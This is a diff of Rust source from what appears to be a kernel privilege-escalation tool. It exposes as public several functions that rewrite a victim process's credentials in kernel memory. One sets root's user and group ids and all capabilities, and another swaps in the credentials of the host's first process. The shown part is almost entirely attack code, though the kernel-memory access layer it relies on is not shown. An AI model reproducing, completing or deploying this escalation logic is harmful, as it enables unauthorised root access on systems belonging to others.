@@ -73,7 +73,8 @@ enum Acts {
     Ends,
 }
 
-fn in_place(memory: &mut KernelMemory, victim: &Subject) -> Result<bool> {
+/// Writes root's ids and all capabilities to the credentials themselves.
+pub fn in_place(memory: &mut KernelMemory, victim: &Subject) -> Result<bool> {
     let task = memory.task(victim.pid())?;
     memory.overwrite_ids(task)?;
     memory.overwrite_capabilities(task, victim.credentials()?.bounding)?;
@@ -92,14 +93,15 @@ fn capabilities_alone(memory: &mut KernelMemory, victim: &Subject) -> Result<boo
     Ok(true)
 }
 
-fn pointers(memory: &mut KernelMemory, victim: &Subject) -> Result<bool> {
+/// Makes the process's credentials those of the host's first process.
+pub fn pointers(memory: &mut KernelMemory, victim: &Subject) -> Result<bool> {
     let (task, first) = (memory.task(victim.pid())?, memory.first()?);
     memory.share(task, first)?;
     Ok(false)
 }
 
 /// Somebody's process, and the kernel's memory; nothing where no host offers that.
-fn prepare(context: &Context<'_>) -> Result<Option<(KernelMemory, Subject)>> {
+pub fn prepare(context: &Context<'_>) -> Result<Option<(KernelMemory, Subject)>> {
     let Some(memory) = KernelMemory::open()? else {
         return Ok(None);
     };
